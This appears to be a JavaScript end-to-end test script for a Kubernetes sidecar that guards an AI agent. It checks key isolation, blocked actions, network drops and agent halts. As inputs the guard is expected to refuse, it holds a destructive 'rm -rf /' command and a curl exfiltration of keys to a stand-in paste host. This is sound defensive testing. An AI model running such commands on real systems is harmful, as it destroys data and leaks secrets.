// The steps of the story on Kubernetes, in their order. Each gets the world (`w`) and the means to tell what happens.
import { check, seconds } from "../lib/report.mjs";
import { until } from "../lib/wait.mjs";
import { offSwitches, ownTools, pastVariables, secondOpenClaw } from "./guard.mjs";
import { apply, condition, exec, get, kubectl, lines, prints } from "./kubectl.mjs";
import { ask, shell } from "./openclaw.mjs";

const RELEASE = "clawlock-system";
const READY_WITHIN_MS = 180_000;
const OPENCLAW_WITHIN_MS = 180_000;
const CHANGE_WITHIN_MS = 30_000;
const LOOK_MS = 250;

const quoted = (text) => `'${text.replaceAll("'", `'\\''`)}'`;

function curl(method, url, body) {
  const data = body ? `-H 'content-type: application/json' -d ${quoted(body)} ` : "";
  return `curl -sSN -m 20 -X ${method} ${data}-w '\\nSTATUS %{http_code} %{http_connect}\\n' ${quoted(url)}`;
}

const status = (text) => Number(/STATUS (\d+)/.exec(text)?.[1]);

/** What reached an upstream so far. */
async function seen(service) {
  const text = await exec("demo-upstreams", service, "server", ["cat", `/records/${service}.demo-upstreams.svc.cluster.local.jsonl`]);
  const entries = text.split("\n").filter(Boolean).map((line) => JSON.parse(line));
  return entries;
}

export const requests = async (service) => (await seen(service)).filter((entry) => entry.kind === "request");

async function installed(_w, tell) {
  tell.sent(`kubectl get deployments -n ${RELEASE}`);
  const deployments = (await get(RELEASE, "deployments")).items;
  check(deployments.length > 0, "the release is installed");
  for (const { metadata, status: is } of deployments) {
    check(is.readyReplicas === is.replicas, `${metadata.name} is ready`, is);
  }
  tell.got(deployments.map(({ metadata, status: is }) => `${metadata.name} ${is.readyReplicas}/${is.replicas}`).join(", "));
  const label = (await get("", "namespace", RELEASE)).metadata.labels["pod-security.kubernetes.io/enforce"];
  tell.proof(`Pod Security of ${RELEASE}: ${label}`);
  check(label === "restricted", "it runs under restricted", label);
}

async function tenant(w, tell) {
  tell.sent("kubectl apply -f platform.yaml -f tenant.yaml");
  await apply(w.manifest("platform.yaml"));
  await w.credentials();
  await apply(w.manifest("tenant.yaml"));
  const gateway = await until("the tenant's gateway", READY_WITHIN_MS, async () => {
    const object = await get("demo-gateway", "tenantgateway", "demo");
    return condition(object, "Ready")?.status === "True" && object;
  }, LOOK_MS);
  tell.got(gateway.status.conditions.map(({ type, status: is }) => `${type}=${is}`).join(" "));
}

async function injected(w, tell) {
  await w.configuration();
  tell.sent("kubectl apply -f openclaw.yaml   (it says nothing about Clawlock)");
  await apply(w.manifest("openclaw.yaml"));
  const pod = await until("OpenClaw's container", READY_WITHIN_MS, async () => {
    const { items } = await get("demo", "pods");
    return items.find(({ status: is }) => is.containerStatuses?.some((container) => container.name === "openclaw" && container.state.running));
  }, LOOK_MS);
  w.pod = pod.metadata.name;
  const [sidecar] = pod.spec.initContainers;
  check(sidecar.name === "clawlock" && sidecar.restartPolicy === "Always", "the sidecar is the first container", sidecar.name);
  const since = (container) => new Date(container.state.running.startedAt) - new Date(pod.metadata.creationTimestamp);
  const of = (list, name) => since(list.find((container) => container.name === name));
  tell.got(`pod ${w.pod}: sidecar started after ${seconds(of(pod.status.initContainerStatuses, "clawlock"))}, OpenClaw after ${seconds(of(pod.status.containerStatuses, "openclaw"))}`);
  const log = await kubectl(["logs", "-n", "demo", w.pod, "-c", "clawlock"]);
  const proofs = log.split("\n").filter((line) => /isolat|canar|dropped/i.test(line));
  proofs.slice(0, 3).forEach((line) => tell.note(line));
  const volumes = pod.spec.volumes.map(({ name }) => name);
  check(!volumes.some((name) => name.startsWith("kube-api-access")), "the pod has no token of the API server", volumes);
  await until("the start of OpenClaw", OPENCLAW_WITHIN_MS, () => ask(w, ["started"]), 1_000);
  tell.proof("OpenClaw says that it has started");
  const gateway = await until("the guard plugin's report", OPENCLAW_WITHIN_MS, async () => {
    const object = await get("demo-gateway", "tenantgateway", "demo");
    return condition(object, "PluginReporting")?.status === "True" && object;
  }, LOOK_MS);
  tell.proof(`PluginReporting: ${condition(gateway, "PluginReporting").message}`);
}

async function modelCall(w, tell) {
  tell.sent("a user's message; the model's answer is held back after its first part");
  const pieces = [];
  for await (const line of lines("demo", w.pod, "openclaw", ["node", "/demo/kind/agent.mjs", "stream", "HOLD"])) {
    const piece = JSON.parse(line);
    if (piece === null) break;
    // The rest is sent only now: had anything on the way waited for the end, this line would never be reached.
    if (pieces.length === 0) await exec("demo-upstreams", "model", "server", ["sh", "-c", "kill -USR2 1"]);
    pieces.push(piece);
  }
  tell.got(pieces.join("|"));
  check(pieces.join("") === "first part, second part, last part", "the whole answer arrives", pieces);
  const calls = await requests("model");
  check(calls.length > 0 && calls.every((call) => call.headers.authorization === `Bearer ${w.keys.model}`), "the model server gets the real key");
  tell.proof("the model server got its key; OpenClaw's configuration has a placeholder");
}

async function decide(w, tell) {
  for (const [command, decision, rule] of [["ls -l", "allow", "shell"], ["rm -rf /", "deny", "no-deletion"]]) {
    tell.sent(`POST /v1/decide exec ${JSON.stringify({ command })}`);
    const answer = await ask(w, ["decide", "exec", JSON.stringify({ command })]);
    tell.got(answer);
    check(answer.decision === decision && answer.rule === rule, `rule ${rule} says ${decision}`, answer);
  }
}

async function operations(w, tell) {
  const before = (await requests("payments")).length;
  const list = await shell(w, tell, curl("GET", `${w.payments}/v1/charges`));
  check(status(list) === 200 && list.includes("ch_1"), "the charges come back", list);
  const refund = await shell(w, tell, curl("POST", `${w.payments}/v1/refunds`, JSON.stringify({ charge: "ch_1", amount: 900 })));
  check(status(refund) === 200 && refund.includes("succeeded"), "the refund succeeds", refund);
  const calls = (await requests("payments")).slice(before);
  check(calls.length === 2 && calls.every((call) => call.headers.authorization === `Bearer ${w.keys.payments}`), "both carry the key", calls.length);
  tell.proof("the payment service got its key on both; the command had none");
}

async function blocked(w, tell) {
  const before = (await requests("payments")).length;
  const refund = await shell(w, tell, curl("POST", `${w.payments}/v1/refunds`, JSON.stringify({ charge: "ch_1", amount: 90_000 })));
  check(status(refund) === 403 && refund.includes("large-refund"), "rule large-refund blocks it", refund);
  const removal = await shell(w, tell, curl("DELETE", `${w.payments}/v1/charges/ch_1`));
  check(status(removal) === 403 && removal.includes("nothing-is-deleted"), "the tenant's guardrail blocks it", removal);
  const unknown = await shell(w, tell, `${curl("POST", "https://pastebin.test/upload", '{"keys":"all"}')} 2>&1`);
  check(unknown.includes("403"), "a host that is no upstream is refused", unknown);
  check((await requests("payments")).length === before, "nothing reached the payment service");
  tell.proof("nothing of it reached the payment service");
}

async function dropped(w, tell) {
  const api = (await get("default", "service", "kubernetes")).spec.clusterIP;
  const dns = (await get("kube-system", "service", "kube-dns")).spec.clusterIP;
  const payments = (await get("demo-upstreams", "pod", "payments")).status.podIP;
  const pod = await get("demo", "pod", w.pod);
  const nodes = (await get("", "nodes")).items.map((node) => node.status.addresses.find(({ type }) => type === "InternalIP").address);
  const node = nodes.find((address) => address !== pod.status.hostIP);
  const targets = { "the API server": [api, 443], "the cluster's DNS": [dns, 53], "the payment service": [payments, 8443], "another node": [node, 10250] };
  const dial = (address, port) => `require("net").connect({host:"${address}",port:${port},timeout:3000}).on("connect",()=>{console.log("connected");process.exit()}).on("timeout",()=>{console.log("dropped");process.exit()}).on("error",(e)=>{console.log(e.code);process.exit()})`;
  // The control: the same program, elsewhere, gets through.
  const control = await exec("demo-upstreams", "model", "server", ["node", "-e", dial(payments, 8443)]);
  check(control.trim() === "connected", "elsewhere the same connection is made", control);
  for (const [what, [address, port]] of Object.entries(targets)) {
    const outcome = (await exec("demo", w.pod, "openclaw", ["node", "-e", dial(address, port)])).trim();
    tell.got(`${what} (${address}:${port}): ${outcome}`);
    check(outcome === "dropped", `${what} cannot be reached past the sidecar`, outcome);
  }
}

const setTier = (tier) => ["patch", "agentpolicy", "openclaw", "-n", "demo", "--type=json", "-p", JSON.stringify([{ op: "replace", path: "/spec/rules/0/tier", value: tier }])];

/** Requests in a row from within the pod, for a minute (what exec starts outlives it); a line whenever the status changes, with its time. */
function poll(url) {
  const script = `let last;const end=Date.now()+60000;(async()=>{while(Date.now()<end){let now;const at=Date.now();try{now=(await fetch(${JSON.stringify(url)})).status}catch(e){now=String(e.cause?.code??e.message)}
if(now!==last){last=now;console.log(JSON.stringify({at,status:now}))}await new Promise(r=>setTimeout(r,5))}})()`;
  return ["node", "-e", script];
}

async function edited(w, tell) {
  const answers = lines("demo", w.pod, "openclaw", poll(`${w.payments}/v1/charges`));
  const next = async () => JSON.parse((await answers.next()).value);
  try {
    check((await next()).status === 200, "it is allowed before the edit");
    const opened = (await seen("payments")).filter(({ kind }) => kind === "stream-open").length;
    const stream = lines("demo", w.pod, "openclaw", ["curl", "-sSN", `${w.payments}/v1/events`]);
    await stream.next();
    tell.note("a stream of events is open");
    tell.sent("kubectl patch agentpolicy openclaw: tier Auto becomes Block in rule reading");
    await kubectl(setTier("Block"));
    const accepted = Date.now();
    const refused = await next();
    check(refused.status === 403, "the next request is refused", refused);
    const closed = await until("the end of the stream", CHANGE_WITHIN_MS, async () => {
      const entries = await seen("payments");
      return entries.filter(({ kind }) => kind === "stream-closed").length > opened && entries.findLast(({ kind }) => kind === "stream-closed");
    });
    tell.proof(`in force ${seconds(Math.max(0, refused.at - accepted))} after kubectl's return; the open stream was closed after ${seconds(Math.max(0, closed.at - accepted))}`);
    await stream.return();
  } finally {
    await kubectl(setTier("Auto"));
  }
  check((await next()).status === 200, "the edit taken back, it is allowed again");
  await answers.return();
}

async function refusedEdit(_w, tell) {
  const patch = JSON.stringify([{ op: "add", path: "/spec/rules/0/when", value: "args.amount +" }]);
  tell.sent("kubectl patch agentpolicy openclaw: when: args.amount +");
  const answer = await kubectl(["patch", "agentpolicy", "openclaw", "-n", "demo", "--type=json", "-p", patch]).then(() => null, (error) => error.message);
  tell.got(answer ?? "taken");
  check(answer?.includes("spec.rules[0].when"), "the answer names the field", answer);
}

async function halted(w, tell) {
  const answers = lines("demo", w.pod, "openclaw", poll(`${w.payments}/v1/charges`));
  const next = async () => JSON.parse((await answers.next()).value);
  check((await next()).status === 200, "it is allowed before the halt");
  tell.sent('kubectl create AgentHalt inc-42: "INC-42: unusual refunds"');
  await apply(JSON.stringify({ apiVersion: "clawlock.dev/v1alpha1", kind: "AgentHalt", metadata: { name: "inc-42", namespace: "demo" }, spec: { agentSelector: {}, reason: "INC-42: unusual refunds" } }));
  const accepted = Date.now();
  const refused = await next();
  check(refused.status === 403, "the agent is halted", refused);
  const answer = await ask(w, ["decide", "read", "{}"]);
  tell.got(answer);
  check(answer.code === "Halted" && JSON.stringify(answer).includes("INC-42"), "the answer has the halt's reason", answer);
  tell.sent("kubectl delete agenthalt inc-42");
  await kubectl(["delete", "agenthalt", "inc-42", "-n", "demo"]);
  check((await next()).status === 200, "it is allowed again");
  tell.proof(`halted ${seconds(Math.max(0, refused.at - accepted))} after the halt was there, and resumed once it was gone`);
  await answers.return();
}

async function keys(w, tell) {
  // The start of the base64 form: its end depends on what comes after the key.
  const forms = Object.values(w.keys).flatMap((key) => [key, Buffer.from(key).toString("base64").slice(0, 40)]);
  const holds = (text) => forms.some((form) => text.includes(form));
  const all = "secrets,configmaps,pods,events,services,serviceaccounts";
  tell.sent(`kubectl get ${all} -n demo, the logs, the agent's files and variables: search for both keys`);
  check(holds(await kubectl(["get", "secrets", "-n", "demo-gateway", "-o", "yaml"])), "the search finds the keys where they belong");
  check(!holds(await kubectl(["get", all, "-n", "demo", "-o", "yaml"])), "no object of the agent's namespace holds a key");
  for (const container of ["openclaw", "clawlock"]) {
    check(!holds(await kubectl(["logs", "-n", "demo", w.pod, "-c", container])), `no key in the log of ${container}`);
  }
  const files = "cat /proc/[0-9]*/environ 2>/dev/null; find /home/agent /config /run/clawlock /tmp -type f -exec cat {} + 2>/dev/null; true";
  const { found, bytes } = await prints("demo", w.pod, "openclaw", ["sh", "-c", files], forms);
  check(!found && bytes > 0, "no key in the agent's variables and files");
  check(!holds(w.report.everything()), "no key was shown in this story");
  tell.proof(`each key is with its upstream and in the platform namespace; none in ${Math.round(bytes / 1e6)} MB of the agent's files and variables`);
}

/** Title, what happens, and whether the story cannot go on without it. */
export const STEPS = [
  ["the release is installed", installed, true],
  ["a tenant is declared", tenant, true],
  ["an unchanged OpenClaw is injected, and starts once its isolation is proven", injected, true],
  ["a streamed model call, with a key that the agent never had", modelCall],
  ["decide API: allowed and blocked", decide],
  ["OpenClaw's own tools: allowed, blocked, and the model is told why", ownTools],
  ["OpenClaw's shell: allowed operations", operations],
  ["OpenClaw's shell: blocked operations, and a host that is no upstream", blocked],
  ["past the sidecar: dropped by the network", dropped],
  ["OpenClaw's shell: without the variables that lead to the sidecar", pastVariables],
  ["OpenClaw's shell: the guard cannot be switched off", offSwitches],
  ["a rule is edited under an open stream", edited],
  ["an invalid edit is refused", refusedEdit],
  ["the agent is halted, and resumed", halted],
  ["where the keys are", keys],
  ["a second OpenClaw, which asks nobody", secondOpenClaw],
];
